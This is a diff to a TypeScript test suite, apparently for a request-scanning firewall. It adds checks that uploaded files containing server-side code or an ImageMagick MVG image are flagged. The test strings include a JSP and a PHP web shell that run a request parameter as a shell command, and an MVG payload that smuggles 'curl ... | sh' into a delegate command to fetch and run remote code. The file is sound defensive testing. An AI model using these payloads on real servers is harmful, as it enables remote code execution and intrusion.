@@ -118,7 +118,7 @@ describe("bodies", () => {
     );
   });
 
-  it("reads an upload's content when it is markup, a spreadsheet, or an image holding a script", () => {
+  it("reads an upload's content when it is markup, a spreadsheet, an image holding a script, or server-side code", () => {
     const upload = (filename: string, type: string, content: string) =>
       where(
         req({
@@ -147,6 +147,25 @@ describe("bodies", () => {
     ).toEqual([]);
     expect(upload("photo.jpg", "image/jpeg", "\u00ff\u00d8\u00ff\u00e0JFIF binary data 0;DROP")).toEqual([]);
     expect(upload("notes.txt", "text/plain", "run `rm -rf build` then <% rebuild %>")).toEqual([]);
+    // A text file's server-side code blocks are read; the prose around them is data.
+    expect(
+      upload(
+        "readme.txt",
+        "text/plain",
+        'Read me\r\n<% java.lang.Runtime.getRuntime().exec(new String[]{"/bin/sh","-c",request.getParameter("c")}); %>',
+      ),
+    ).toContain("944100@body:multipart.file.content.code");
+    expect(upload("notes", "", "see below <?php system($_GET['c']); ?> end")).toContain(
+      "933130@body:multipart.file.content.code",
+    );
+    // ImageMagick's MVG hands a quoted URL to a delegate's shell command.
+    expect(
+      upload(
+        "pic.jpg",
+        "image/jpeg",
+        "push graphic-context\r\nviewbox 0 0 640 480\r\nfill 'url(https://example.com/i.jpg\"|curl http://203.0.113.5/x|sh\")'\r\npop graphic-context",
+      ),
+    ).toContain("932100@body:multipart.file.content.arg");
   });
 
   it("scans a GraphQL document's string arguments as values of their own", () => {
